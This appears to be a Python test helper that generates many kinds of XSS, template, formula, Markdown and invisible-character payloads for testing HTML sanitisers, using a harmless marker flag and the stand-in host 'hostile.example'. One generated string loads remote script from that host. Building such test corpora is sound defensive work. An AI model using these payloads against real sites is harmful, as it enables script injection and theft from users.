"""Hostile strings by kind, made of the parts in `parts.yml`, so that they are the same on each run.

What could run in a page sets the mark `window.hostile` or asks the host `hostile.example`; a browser test looks for
both. Public collections are read from a folder that the variable HOSTILE_STRINGS names: `*.txt` with a string a line,
`*.json` with a list of strings.

Sources for the kinds: OWASP's cheat sheet on evading filters, the HTML standard's states of the tokenizer, Heiderich et
al., "mXSS Attacks" (2013), Boucher and Anderson, "Trojan Source" (2021), CommonMark, Python-Markdown.
"""

import html
import json
import os
from collections.abc import Iterator
from itertools import product
from pathlib import Path
from urllib.parse import quote

import yaml

MARK = "window.hostile=1"
HOST = "hostile.example"
PARTS: dict[str, list[str]] = yaml.safe_load(Path(__file__).with_name("parts.yml").read_text("utf-8"))


def _encoded(text: str) -> Iterator[str]:
    """Yield a text as entities of several kinds, once and twice, and as addresses and scripts write it."""
    yield html.escape(text)
    yield html.escape(html.escape(text))
    yield "".join(f"&#{ord(c)};" for c in text)
    yield "".join(f"&#x{ord(c):x}" for c in text)
    yield "".join(f"\\u{ord(c):04x}" for c in text)
    yield quote(text)


def _active() -> Iterator[str]:
    """Yield the shortest strings that act where HTML is let through."""
    yield from (f"<script>{call}</script>" for call in PARTS["calls"])
    yield from (f"<img src=x onerror={MARK}>", f"<svg onload={MARK}>", f"<iframe src=javascript:parent.{MARK}>")
    yield f"<script src=//{HOST}/x.js></script>"


def _kinds() -> Iterator[tuple[str, Iterator[str]]]:
    active = tuple(_active())
    words = ("Berg", "<b>", "=1", active[0])
    yield "scripts", (mutation.format(call) for mutation, call in product(PARTS["mutations"], PARTS["calls"]))
    yield "handlers", (f"<{tag} {event}={MARK}>" for tag, event in product(PARTS["tags"], PARTS["events"]))
    yield "links", (link.format(scheme) for link, scheme in product(PARTS["links"], PARTS["schemes"]))
    yield "break-outs", (end + text for end, text in product(PARTS["breaks"], active))
    yield "swallowing", (text for start in PARTS["swallows"] for text in (start, f"{start}x", f"x {start} {MARK}"))
    yield "encoded", (code for text in active for code in _encoded(text))
    yield "Markdown", (block.format(word, word) for block, word in product(PARTS["blocks"], PARTS["words"]))
    yield "attribute lists", (form.format(value) for form, value in product(PARTS["attributes"], PARTS["values"]))
    yield (
        "templates",
        (form.format(told) for form, told in product(PARTS["templates"], PARTS["expressions"])),
    )
    yield "front matter", (form.format(value) for form, value in product(PARTS["yaml"], PARTS["front"]))
    yield "formulas", ("".join(pair) for pair in product(PARTS["signs"], PARTS["formulas"]))
    yield (
        "unseen",
        (form.format(text, "x", text) for form, text in product(PARTS["unseen"], words)),
    )
    yield "runs", (unit * number for unit, number in product(PARTS["units"], (3, 80)))
    yield "polyglots", (form.format(call) for form, call in product(PARTS["polyglots"], PARTS["calls"]))


def payloads() -> dict[str, tuple[str, ...]]:
    """Return the strings of each kind, no string twice."""
    seen: set[str] = set()
    found: dict[str, tuple[str, ...]] = {}
    for kind, strings in _kinds():
        found[kind] = tuple(text for text in dict.fromkeys(strings) if text not in seen)
        seen.update(found[kind])
    return found


def collected() -> tuple[str, ...]:
    """Return the strings of public collections, if the variable HOSTILE_STRINGS names a folder that holds some."""
    folder = os.environ.get("HOSTILE_STRINGS")
    found: list[str] = []
    for path in sorted(Path(folder).iterdir()) if folder else ():
        text = path.read_text("utf-8", "replace")
        if path.suffix in (".txt", ".json"):
            found += text.splitlines() if path.suffix == ".txt" else map(str, json.loads(text))
    return tuple(dict.fromkeys(text for text in found if text.strip()))


def spread(strings: dict[str, tuple[str, ...]], number: int) -> tuple[str, ...]:
    """Return so many strings, of each kind alike many as far as it has them, evenly chosen from each."""
    share = -(-number // len(strings))
    chosen = [text for kind in strings.values() for text in kind[:: max(1, len(kind) // share)][:share]]
    return tuple(chosen[:number])
